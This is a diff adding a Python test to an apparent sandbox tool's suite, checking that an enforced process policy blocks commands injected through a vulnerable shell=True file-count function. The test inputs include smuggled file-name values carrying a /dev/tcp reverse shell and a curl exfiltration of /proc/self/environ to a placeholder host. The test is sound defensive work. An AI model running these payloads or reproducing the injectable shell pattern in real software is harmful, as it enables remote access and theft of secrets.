@@ -178,3 +178,25 @@ attempt("echo", lambda: subprocess.run(["echo", "x"], capture_output=True).retur
     assert r.results["ls"] == {"ok": True, "value": 0}
     assert r.results["echo"]["ramparts"] is True
     assert r.alerts("policy.process")[0]["executable"].endswith("/echo")
+
+
+def test_injection_into_a_shell_the_policy_allows():
+    # GIVEN a function allowed its own shell command (sh -c "wc -c FILE")
+    policy = '{"process": {"allow": ["/bin/sh", "/usr/bin/dash", "/usr/bin/bash", "/usr/bin/wc", "/bin/wc"]}}'
+    code = """
+import subprocess
+def count(name):
+    return subprocess.run(f"wc -c '/tmp/{name}'", shell=True, capture_output=True).returncode
+open("/tmp/notes.txt", "w").write("hello")
+attempt("benign", lambda: count("notes.txt"))
+attempt("reverse_shell", lambda: count("x'; sh -i >& /dev/tcp/192.0.2.1/4444 0>&1 #"))
+attempt("exfil", lambda: count("x'; cat /proc/self/environ | curl -d @- http://192.0.2.1 #"))
+"""
+    r = run_case(code, env={"RAMPARTS_POLICY": policy, "RAMPARTS_MODE": "enforce"})
+    # THEN the function's own command runs, the injected ones are blocked before they start
+    assert r.results["benign"] == {"ok": True, "value": 0}
+    assert r.results["reverse_shell"]["ramparts"] and r.results["exfil"]["ramparts"]
+    rev, exfil = r.alerts()
+    assert rev["rule"] == "default.network-tool" and "default.shell" in rev["matched"]
+    assert "/dev/tcp" in rev["programs"]
+    assert {"policy.process", "default.network-tool"} <= {exfil["rule"], *exfil["matched"]}
